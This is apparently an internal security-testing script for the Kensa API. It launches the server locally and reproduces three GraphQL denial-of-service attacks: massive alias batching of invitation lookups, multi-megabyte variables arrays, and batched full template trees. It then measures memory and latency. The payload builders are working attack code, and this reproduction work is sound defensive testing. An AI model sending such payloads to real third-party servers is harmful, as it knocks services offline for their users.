#!/usr/bin/env python3
"""Reproduces the GraphQL denial-of-service attacks of issue 7 against a Kensa binary and
measures what they cost the server: its peak resident memory and the latency other users
see on `GET /api/v1/me` while each attack runs.

Python 3.11 standard library only. Linux only (reads /proc/<pid>/status).

    python3 tools/attack/graphql.py --binary target/release/kensa-api [--port 18080]

The script starts the binary itself on SQLite in a fresh temporary directory, signs up one
organization, then runs each attack in turn while a few threads call `/me` in a loop, and
prints a markdown table (one row per attack). Attacks:

- `alias-batch`: one anonymous batch of 180 operations × 450 aliased `invitation(token)`
  fields (3.5 MB): 81,000 invitation lookups if the server runs it.
- `variables-array`: three signed-in requests in parallel, each with a variables array of
  four million zeros (8 MB).
- `template-trees`: one signed-in batch of 30 operations × 40 aliased full template trees
  of the built-in check sheet (the issue used a viewer; any member reads templates).
"""

from __future__ import annotations

import argparse
import http.client
import json
import os
import shutil
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import uuid

PASSWORD = "correct-Horse-battery-9"
FULL_TREE = (
    "categories { number name nameEn purpose sections { code requirement items { no level "
    "levelInferred levelReason question criteria scope frequency notes textNote } } }"
)


def rss_kib(pid: int) -> tuple[int, int]:
    """(VmRSS, VmHWM) of the process, in KiB."""
    rss = hwm = 0
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                rss = int(line.split()[1])
            elif line.startswith("VmHWM:"):
                hwm = int(line.split()[1])
    return rss, hwm


def request(port: int, method: str, path: str, body: bytes | None = None, token: str | None = None,
            timeout: float = 120.0) -> tuple[int, bytes, float]:
    """(status, body, seconds); status 0 when the connection failed."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    headers = {"content-type": "application/json"}
    if token:
        headers["authorization"] = f"Bearer {token}"
    started = time.monotonic()
    try:
        conn.request(method, path, body=body, headers=headers)
        response = conn.getresponse()
        data = response.read()
        return response.status, data, time.monotonic() - started
    except (OSError, http.client.HTTPException):
        return 0, b"", time.monotonic() - started
    finally:
        conn.close()


class Sampler(threading.Thread):
    """Samples the server's VmRSS every 20 ms; `peak` is the highest seen since reset."""

    def __init__(self, pid: int):
        super().__init__(daemon=True)
        self.pid, self.peak, self.stop = pid, 0, threading.Event()

    def reset(self) -> None:
        self.peak = rss_kib(self.pid)[0]

    def run(self) -> None:
        while not self.stop.is_set():
            try:
                self.peak = max(self.peak, rss_kib(self.pid)[0])
            except OSError:
                return
            time.sleep(0.02)


class MeLoop:
    """`threads` clients calling GET /api/v1/me back to back; latencies in seconds."""

    def __init__(self, port: int, token: str, threads: int = 4):
        self.port, self.token, self.threads = port, token, threads
        self.latencies: list[float] = []
        self.failures = 0
        self.stop = threading.Event()
        self.lock = threading.Lock()
        self.workers: list[threading.Thread] = []

    def _run(self) -> None:
        while not self.stop.is_set():
            status, _, seconds = request(self.port, "GET", "/api/v1/me", token=self.token, timeout=60)
            with self.lock:
                if status == 200:
                    self.latencies.append(seconds)
                else:
                    self.failures += 1

    def __enter__(self) -> "MeLoop":
        self.workers = [threading.Thread(target=self._run, daemon=True) for _ in range(self.threads)]
        for worker in self.workers:
            worker.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.stop.set()
        for worker in self.workers:
            worker.join()

    def summary(self) -> str:
        if not self.latencies:
            return "no answer"
        ordered = sorted(self.latencies)
        p99 = ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]
        return (f"{statistics.median(ordered) * 1000:.0f} / {p99 * 1000:.0f} / {ordered[-1] * 1000:.0f} ms"
                f" ({len(ordered)} calls{', %d failed' % self.failures if self.failures else ''})")


def alias_batch() -> bytes:
    operation = "{ " + " ".join(f'a{i}: invitation(token: "tok{i}") {{ buyerName }}' for i in range(450)) + " }"
    return json.dumps([{"query": operation}] * 180).encode()


def variables_array() -> bytes:
    return json.dumps({"query": "query($v: JSON) { __typename }", "variables": {"v": [0] * 4_000_000}},
                      separators=(",", ":")).encode()


def template_trees(template_id: str) -> bytes:
    trees = " ".join(f't{i}: template(id: "{template_id}") {{ {FULL_TREE} }}' for i in range(40))
    return json.dumps([{"query": "{ " + trees + " }"}] * 30).encode()


def describe(statuses: list[int], sizes: list[int], seconds: list[float]) -> str:
    if not statuses:
        return "—"
    codes = ", ".join(sorted({str(s) for s in statuses}))
    return f"HTTP {codes}, {sum(sizes) / 1e6:.1f} MB answered, {max(seconds):.1f} s"


def attack(port: int, sampler: Sampler, me_token: str, bodies: list[tuple[bytes, str | None]]) -> list[str]:
    time.sleep(1.0)
    sampler.reset()
    before = sampler.peak
    results: list[tuple[int, bytes, float]] = []
    lock = threading.Lock()

    def send(body: bytes, token: str | None) -> None:
        outcome = request(port, "POST", "/graphql", body=body, token=token, timeout=300)
        with lock:
            results.append(outcome)

    with MeLoop(port, me_token) as me:
        time.sleep(0.5)
        senders = [threading.Thread(target=send, args=b) for b in bodies]
        for sender in senders:
            sender.start()
        for sender in senders:
            sender.join()
        time.sleep(0.5 if bodies else 3.0)
    return [
        f"{before / 1024:.0f} → {sampler.peak / 1024:.0f} MiB",
        me.summary(),
        describe([r[0] for r in results], [len(r[1]) for r in results], [r[2] for r in results]),
    ]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--binary", required=True, help="the kensa-api binary to attack")
    parser.add_argument("--port", type=int, default=18080)
    parser.add_argument("--arg", action="append", default=[], help="an argument for the binary (repeatable)")
    parser.add_argument("--only", action="append", choices=["alias-batch", "variables-array", "template-trees"],
                        help="run only these attacks (repeatable)")
    args = parser.parse_args()

    data_dir = tempfile.mkdtemp(prefix="kensa-attack-")
    env = {k: v for k, v in os.environ.items() if not k.startswith("KENSA_") and k not in ("DATABASE_URL", "REDIS_URL")}
    env.update({
        "KENSA_DATA_DIR": data_dir,
        "KENSA_BIND": f"127.0.0.1:{args.port}",
        "KENSA_JWT_SECRET": "attack-secret-attack-secret-attack-secret-0123",
        "KENSA_EMBEDDED_WORKER": "false",
        "KENSA_LOG": "error",
    })
    server = subprocess.Popen([args.binary, *args.arg], env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        for _ in range(300):
            if request(args.port, "GET", "/healthz", timeout=2)[0] == 200:
                break
            if server.poll() is not None:
                print(f"the server exited with {server.returncode}", file=sys.stderr)
                return 1
            time.sleep(0.1)
        email = f"attack-{uuid.uuid4().hex[:12]}@example.com"
        signup = json.dumps({"organization_name": "Attack Buyer", "name": "Owner", "email": email,
                             "password": PASSWORD}).encode()
        status, body, _ = request(args.port, "POST", "/api/v1/auth/signup", body=signup)
        if status != 201:
            print(f"sign-up failed: {status} {body[:300]!r}", file=sys.stderr)
            return 1
        token = json.loads(body)["access_token"]
        _, body, _ = request(args.port, "GET", "/api/v1/templates", token=token)
        template_id = next(t["id"] for t in json.loads(body)["data"] if t["key"] == "jama-japia")

        sampler = Sampler(server.pid)
        sampler.start()
        attacks = {
            "alias-batch": ("anonymous batch, 180 × 450 `invitation` aliases (3.5 MB)", [(alias_batch(), None)]),
            "variables-array": ("3 × signed-in 8 MB variables array, in parallel",
                                [(variables_array(), token)] * 3),
            "template-trees": ("signed-in batch, 30 × 40 template trees",
                               [(template_trees(template_id), token)]),
        }
        rows = []
        idle = attack(args.port, sampler, token, [])
        rows.append(["(no attack: /me loop alone)", idle[0], idle[1], "—"])
        for name, (label, bodies) in attacks.items():
            if args.only and name not in args.only:
                continue
            rows.append([label, *attack(args.port, sampler, token, bodies)])
        _, hwm = rss_kib(server.pid)
        sampler.stop.set()

        print(f"Binary: `{args.binary}`; {time.strftime('%Y-%m-%d %H:%M UTC', time.gmtime())}; "
              f"SQLite; 4 concurrent `/me` clients during each attack; server VmHWM at the end {hwm / 1024:.0f} MiB.\n")
        print("| attack | server RSS (before → peak) | `/me` p50 / p99 / max | attack answered |")
        print("|---|---|---|---|")
        for row in rows:
            print("| " + " | ".join(row) + " |")
        return 0
    finally:
        server.terminate()
        try:
            server.wait(timeout=30)
        except subprocess.TimeoutExpired:
            server.kill()
        shutil.rmtree(data_dir, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
